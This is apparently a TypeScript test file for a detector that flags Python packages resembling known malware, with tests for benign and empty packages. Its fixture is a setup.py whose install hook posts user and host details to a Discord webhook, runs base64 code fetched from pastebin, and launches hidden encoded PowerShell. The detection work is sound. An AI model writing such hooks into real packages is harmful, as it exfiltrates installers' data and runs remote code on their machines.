import { describe, expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known, type MetadataFacts } from '../../model/facts.ts'
import { untrustedText } from '../../base/display.ts'
import { CONTEXT } from '../artifact-rule.test-support.ts'
import layer from '../learned-trees.generated.json' with { type: 'json' }
import { rule } from './learned-suspicion.ts'

const METADATA: MetadataFacts = {
  file: 'demo-1.0.dist-info/METADATA',
  metadataVersion: untrustedText('2.1'),
  name: untrustedText('demo'),
  version: untrustedText('1.0'),
  requiresPython: null,
  requiresDist: [],
  providesExtra: [],
  summary: null,
  homePage: null,
  projectUrls: [],
  author: null,
  authorEmail: null,
  maintainer: null,
  maintainerEmail: null,
  license: null,
  classifierCount: 0,
  descriptionLength: 0,
  dynamic: [],
  problems: [],
}

async function find(files: Record<string, string>): Promise<ReturnType<typeof rule.find>> {
  const members = Object.keys(files).map((path) => ({ path: untrustedText(path), kind: 'file' as const, size: 100 }))
  const archive = known({ format: 'tar.gz' as const, members, anomalies: [], unpackedBytes: 100 })
  return rule.find({ source: known(await factsOf(files)), metadata: known(METADATA), archive }, CONTEXT)
}

const SENDS = `import base64, getpass, os, platform, socket, urllib.request
import requests
from setuptools import setup
from setuptools.command.install import install

class After(install):
    def run(self):
        install.run(self)
        about = {"user": getpass.getuser(), "host": socket.gethostname(), "os": platform.platform()}
        requests.post("https://discord.com/api/webhooks/1/none", json=about)
        exec(base64.b64decode(urllib.request.urlopen("https://pastebin.com/raw/none").read()))
        os.system("powershell -WindowStyle Hidden -EncodedCommand AAAA")

setup(name="demo", version="1.0", cmdclass={"install": After})
`

describe('the learned layer', () => {
  it('warns of what names this machine, fetches and runs during installation, with the facts that spoke and their lines', async () => {
    const [sighting, ...others] = (await find({ 'setup.py': SENDS })) ?? []
    expect(others).toEqual([])
    expect(sighting?.message).toMatch(/^looks like known malware to the learned layer \(score \d+\.\d of at least [\d.]+\): \S/)
    expect(sighting?.place.file).toBe('setup.py')
    expect(sighting?.evidence?.length).toBeGreaterThan(0)
  })

  it('says nothing of a package without metadata that asks a service when it is called', async () => {
    const client = 'import requests\n\ndef status(url):\n    return requests.get(url, timeout=5).json()\n'
    expect(
      await find({ 'demo-1.0/demo/__init__.py': client, 'demo-1.0/setup.py': 'from setuptools import setup\nsetup()\n' }),
    ).toEqual([])
  })

  it('says nothing of an empty package', async () => {
    expect(await find({ 'demo-1.0/demo/__init__.py': '' })).toEqual([])
  })

  it('was measured on families that it never saw, with a seed', () => {
    expect(layer.measured).toMatchObject({
      familiesByTheLayer: expect.any(Number) as number,
      benignByTheLayer: expect.any(Number) as number,
    })
    expect([layer.seed, layer.measured.benignByTheLayer < 1]).toEqual([1, true])
  })

  it('only ever warns', () => {
    expect([rule.effect, rule.isRaisedByStrict, rule.isOutsideTheSum]).toEqual(['warn', false, true])
  })
})
